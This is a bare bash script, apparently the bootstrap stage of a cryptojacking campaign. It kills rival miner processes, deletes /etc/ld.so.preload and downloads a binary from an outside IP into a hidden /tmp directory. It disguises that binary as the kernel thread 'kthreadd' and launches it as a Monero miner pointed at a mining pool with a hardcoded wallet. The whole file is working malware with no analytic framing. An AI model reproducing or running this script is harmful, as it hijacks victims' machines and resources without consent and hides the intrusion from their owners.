# bootstrap 8866 v1
#!/bin/bash
export LC_ALL=C
ulimit -n 65535
for p in $(ps -eo pid,comm | awk '$2 ~ /(kswapd0|watchdogs|xmr|xmrig)/ {print $1}'); do kill -9 $p; done
chattr -i /etc/ld.so.preload; rm -f /etc/ld.so.preload
curl -fsSL http://203.0.113.17/dl/kthreadd -o /tmp/.ICE-unix/.k/kthreadd || wget -q http://203.0.113.17/dl/kthreadd -O /tmp/.ICE-unix/.k/kthreadd
chmod +x /tmp/.ICE-unix/.k/kthreadd
/tmp/.ICE-unix/.k/kthreadd -o pool.hashvault.pro:443 -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD -k --tls
